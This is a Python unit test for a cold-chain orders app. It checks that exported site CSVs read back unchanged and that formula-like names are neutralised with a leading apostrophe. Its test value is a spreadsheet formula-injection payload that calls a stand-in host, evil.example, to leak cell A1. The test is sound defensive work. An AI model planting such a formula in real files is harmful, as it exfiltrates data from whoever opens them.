"""A sites export is a sites import file: it reads back to the same sites, and a
formula-looking name is neutralised in the file but typed as it was on the way back."""

from __future__ import annotations

import csv
import io

import pytest

from coldchain_orders.imports import SITE_COLUMNS, read_rows, site_from_row
from coldchain_orders.sites_export import site_row
from coldchain_servicekit.spreadsheets import csv_bytes

pytestmark = pytest.mark.unit
NAME = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def test_an_exported_site_reads_back_as_the_same_site() -> None:
    original = site_from_row(
        {"code": "HUB-1", "name": NAME, "latitude": "37.2", "longitude": "127.3", "role": "pickup",
         "zones": "frozen|chilled", "opening_hours": "Mon-Fri 06:00-18:00; Sat 08:00-24:00",
         "forklift": "available", "contact_name": "@Kim", "geofence_radius_m": "250"}
    )  # fmt: skip
    data = csv_bytes(SITE_COLUMNS, [site_row(original.model_dump(mode="json"))])
    cells = next(r for r in csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))
    assert cells["name"] == "'" + NAME, "neutralised in the file"
    assert cells["contact_name"] == "'@Kim"
    [(_, row)] = read_rows(data, "csv", "sites", 10)
    again = site_from_row(row)
    assert again.model_dump(exclude={"event_id", "occurred_at"}) == original.model_dump(
        exclude={"event_id", "occurred_at"}
    )
